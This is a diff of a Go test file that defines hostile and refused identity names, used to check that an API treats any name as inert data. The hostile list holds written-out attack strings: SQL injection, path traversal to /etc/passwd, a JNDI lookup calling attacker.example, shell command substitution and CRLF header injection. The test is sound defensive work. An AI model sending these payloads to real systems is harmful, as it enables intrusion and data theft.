@@ -19,12 +19,12 @@ var hostile = []string{
 	"'; DROP TABLE projects; --", "\" OR \"\"=\"", "%' OR 1=1 --", "%", "_", "*", "?", "#", "a?b#c",
 	"../../../../etc/passwd", "..", ".", "/", "//", "a/b", `a\b`, "%2e%2e%2f", "%00", "bulk", "gift", "user-123/gift", "{identity}", "{projectId}",
 	"{{usage}}", "${jndi:ldap://attacker.example/a}", "$(id)", "`id`", "%s%n%x", "\\u0000", `{"a":1}`, "[]", "null", "true", "0", "-1",
-	"a b", "a,b;c\"d'e", "a=b&c=d", "é", "e\u0301", "ß", "İ", "\u4e2d\u6587", "\u0639\u0631\u0628\u064a", "device:1", "apple:1", "claims:1", "st_x", "pk_x",
+	"a b", "a,b;c\"d'e", "a=b&c=d", "é", "e\u0301", "ß", "İ", "\u4e2d\u6587", "\u0639\u0631\u0628\u064a", "device", "Apple:1", "claims", "st_x", "pk_x",
 	strings.Repeat("👩‍🚀", 512/len("👩‍🚀")), strings.Repeat("x", 512), strings.Repeat("\u00e9", 256),
 }
 
 // refusedNames are texts that no identity may be called.
-var refusedNames = []string{"", " ", "a\x00b", "a\nb", "a\r\nX-Evil: 1", "a\tb", "\u202eevil", "a\u200bb", "\ufeffa", "\x1b[31m", "a\x7f", "\xff\xfe", strings.Repeat("x", 513)}
+var refusedNames = []string{"", " ", "a\x00b", "a\nb", "a\r\nX-Evil: 1", "a\tb", "\u202eevil", "a\u200bb", "\ufeffa", "\x1b[31m", "a\x7f", "\xff\xfe", strings.Repeat("x", 513), "device:1", "apple:", " claims:1"}
 
 // Every call about an identity takes any name for a name: it is answered as it was given, as JSON, and means nothing.
 func TestHostileNamesAreNames(t *testing.T) {
